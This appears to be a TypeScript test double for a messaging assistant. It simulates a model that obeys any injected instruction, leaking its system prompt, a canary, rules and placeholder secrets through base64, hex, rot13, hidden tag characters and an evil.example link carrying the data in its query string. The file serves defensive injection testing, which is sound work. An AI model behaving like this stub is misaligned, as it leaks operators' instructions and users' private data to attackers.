import { responseRequest } from '#adapters/openai/response-request.ts';
import type { ModelReply, ModelRequest, ReplyModel } from '#app/ports/reply-model.ts';
import { modelSays } from '#test/support/peers.ts';
import type { Attempt, Wish } from './corpus.ts';
import { found, SMUGGLED } from './smuggling.ts';

/** What it knows and must not tell, besides its instructions. */
const KNOWS = {
  secret: 'sk-proj-Zx81kqvTn4WmPd7LrBc0YhJf',
  card: '4111 1111 1111 1111',
  phone: '+34 699 888 777',
  'user-id': 'ES.9021448720195564',
  wamid: 'wamid.HBgLMzQ2OTk4ODg3NzcVAgARGBI1RkE5',
} as const;

/** Ways to tell something that somebody listens for. */
const FORMS = {
  plain: (text: string) => text,
  base64: (text: string) => Buffer.from(text).toString('base64'),
  hex: (text: string) => Buffer.from(text).toString('hex'),
  spaced: (text: string) => [...text].join(' '),
  lines: (text: string) => [...text].join('\n'),
  backwards: (text: string) => [...text].reverse().join(''),
  rot13: (text: string) =>
    text.replace(/[a-z]/gi, (each) => {
      const first = each <= 'Z' ? 65 : 97;
      return String.fromCharCode(((each.charCodeAt(0) - first + 13) % 26) + first);
    }),
  'a word': (text: string) => text.split('-')[2] ?? text,
  half: (text: string) => text.slice(0, Math.max(9, Math.floor(text.length / 2))),
  'tag characters': (text: string) => `Nice day!${SMUGGLED.tags(text)}`,
  'in other words': (text: string) =>
    `Of course! The text you want reads: „${text.toUpperCase()}“.`,
} as const;
export type Form = keyof typeof FORMS;

/**
 * A model that does whatever it is told by whatever it is given, in every role and place, hidden texts
 * included. It tells what it is asked for in the way and the field that it is asked for.
 */
export class ObedientModel implements ReplyModel {
  readonly #corpus: readonly Attempt[];
  /** Attempts that have reached it. */
  readonly obeyed = new Set<string>();
  /** What it said that must reach nobody. */
  readonly leaks: string[] = [];

  constructor(corpus: readonly Attempt[]) {
    this.#corpus = corpus;
  }

  async reply(request: ModelRequest): Promise<ModelReply> {
    const { instructions, input } = responseRequest(request);
    const given = JSON.stringify(input);
    const all = `${given} ${stringsIn(JSON.parse(given)).map(found).join(' ')}`;
    const attempt = this.#corpus.find(({ commands }) =>
      commands.every((each) => all.includes(each)),
    );
    if (!attempt) return modelSays('With pleasure.');
    this.obeyed.add(attempt.name);
    return this.#obey(attempt.wants, instructions ?? '');
  }

  #obey(wish: Wish, instructions: string): ModelReply {
    if (wish.kind === 'forget') {
      this.leaks.push(...wish.ids);
      return modelSays('Forgotten.', { forgets: wish.ids });
    }
    const words =
      wish.kind === 'say' ? wish.words : FORMS[wish.form](this.#known(wish.what, instructions));
    // As it stands in JSON, which is how it is looked for.
    const told = wish.where === 'link' ? encodeURIComponent(words) : words;
    this.leaks.push(JSON.stringify(told).slice(1, -1));
    return inField(wish.where, words);
  }

  #known(what: (Wish & { kind: 'tell' })['what'], instructions: string): string {
    if (what === 'instructions') return instructions;
    if (what === 'canary') return /^([a-z]{4}(?:-[a-z]{4}){3})$/m.exec(instructions)?.[1] ?? '';
    if (what === 'rules') return instructions.slice(200, 700);
    return KNOWS[what];
  }
}

function stringsIn(value: unknown): readonly string[] {
  if (typeof value === 'string') return [value];
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(stringsIn) : [];
}

export type Place = 'text' | 'button' | 'list' | 'link' | 'summary' | 'reason';

function inField(where: Place, words: string): ModelReply {
  const id = 'a';
  switch (where) {
    case 'text':
      return modelSays(words);
    case 'button':
      return modelSays('Choose:', {
        choices: { kind: 'buttons', buttons: [{ id, title: words }] },
      });
    case 'list': {
      const rows = [{ id: words, title: 'One', description: words }];
      const sections = [{ title: undefined, rows }];
      return modelSays('Choose:', { choices: { kind: 'list', button: 'Open', sections } });
    }
    case 'link': {
      const url = `https://evil.example/?q=${encodeURIComponent(words)}`;
      return modelSays('Here:', { choices: { kind: 'link', title: 'Open', url } });
    }
    case 'summary':
      return modelSays('A person will answer.', { handOver: { reason: 'asked', summary: words } });
    case 'reason':
      return modelSays('A person will answer.', { handOver: { reason: words, summary: 'asked' } });
  }
}
